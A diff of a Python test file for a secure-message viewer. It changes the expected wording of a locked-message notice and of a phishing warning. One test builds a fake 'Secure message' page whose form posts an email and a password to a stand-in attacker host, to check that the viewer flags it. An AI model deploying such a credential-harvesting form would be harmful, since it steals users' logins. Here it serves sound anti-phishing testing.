@@ -161,7 +161,7 @@ class ViewerTest(unittest.TestCase):
                 "Sent to the wrong person; please delete it", "--data", str(self.service.data)]
         subprocess.run(lock, check=True, stdout=subprocess.DEVNULL)
         with Viewer(envelope) as viewer:
-            viewer.wait_for("The sender has locked this message.*wrong person")
+            viewer.wait_for("This message is locked.*wrong person")
             viewer.wait_for("^Try again", BUTTON)
             self.assert_named(viewer)
             viewer.screenshot(IMAGES / "refusal.png")
@@ -214,7 +214,7 @@ class ViewerTest(unittest.TestCase):
         fake.write_text("<html><title>Secure message</title><form action='http://evil.example/x' method=post>"
                         "<input type=email><input type=password name=p><input type=submit></form></html>")
         with Viewer(fake) as viewer:
-            viewer.wait_for("only imitates a secure message")
+            viewer.wait_for("imitates a secure message but is not one")
             viewer.wait_for("evil.example")
             self.assertIsNone(viewer.find("", "password text"))
 
